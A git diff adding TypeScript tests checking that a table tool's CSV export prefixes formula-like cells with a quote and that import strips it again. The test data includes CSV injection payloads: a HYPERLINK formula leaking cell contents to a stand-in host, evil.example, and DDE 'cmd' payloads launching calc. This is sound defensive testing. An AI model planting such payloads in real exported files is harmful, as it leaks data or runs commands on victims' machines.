@@ -269,6 +269,50 @@ describe('export and import give back the same table', () => {
     expect(tableToCsv(back)).toBe(csv);
   });
 
+  // OWASP's CSV injection: a cell starting with =, +, -, @, a tab or a carriage return is a formula to a spreadsheet.
+  const formulas: OutcomeTable = {
+    name: 'Formulas',
+    die: 'd100',
+    asks: '',
+    skill: null,
+    rows: [
+      row(1, 10, '=HYPERLINK("https://evil.example/?leak="&A1,"Click for loot")'),
+      row(11, 20, "+cmd|' /C calc'!A0"),
+      row(21, 30, '-2 to your next roll', { next: '=Trap' }),
+      row(31, 40, '@SUM(1+1)*cmd|\' /C calc\'!A0'),
+      row(41, 50, "'=already quoted by its author"),
+      row(51, 60, "'' a quote first, then nothing a spreadsheet runs"),
+      row(61, 100, 'A plain row, 3 + 4 = 7'),
+    ],
+  };
+
+  it('CSV export: every cell a spreadsheet would run starts with a quote, and is quoted', () => {
+    const cells = parseCsv(tableToCsv(formulas)).slice(1).map((record) => record.fields);
+    expect(cells.map((fields) => fields[2])).toEqual([
+      '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click for loot")',
+      "'+cmd|' /C calc'!A0",
+      "'-2 to your next roll",
+      "'@SUM(1+1)*cmd|' /C calc'!A0",
+      "''=already quoted by its author",
+      "'' a quote first, then nothing a spreadsheet runs",
+      'A plain row, 3 + 4 = 7',
+    ]);
+    expect(cells[2]![3]).toBe("'=Trap");
+    // A negative bound is a number, not a formula: left as it is.
+    expect(tableToCsv({ ...formulas, rows: [row(-5, 100, 'x')] })).toBe(`${header}\n-5,100,x,,\n`);
+    const lines = tableToCsv(formulas).split('\n');
+    expect(lines[1]).toBe('1,10,"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for loot"")",,');
+    expect(lines[2]).toBe('11,20,"\'+cmd|\' /C calc\'!A0",,');
+    expect(lines[3]).toBe('21,30,"\'-2 to your next roll","\'=Trap",');
+  });
+
+  it('CSV export → import takes the added quote off again: the same texts come back', () => {
+    const csv = tableToCsv(formulas);
+    const back = parseTableCsv(csv, { name: formulas.name });
+    expect(back).toEqual(formulas);
+    expect(tableToCsv(back)).toBe(csv);
+  });
+
   it('CSV with CRLF and a BOM reads back the same', () => {
     const csv = `\uFEFF${tableToCsv(reload).replace(/\n/g, '\r\n')}`;
     expect(parseTableCsv(csv, { name: reload.name, asks: reload.asks, skill: reload.skill! })).toEqual(reload);
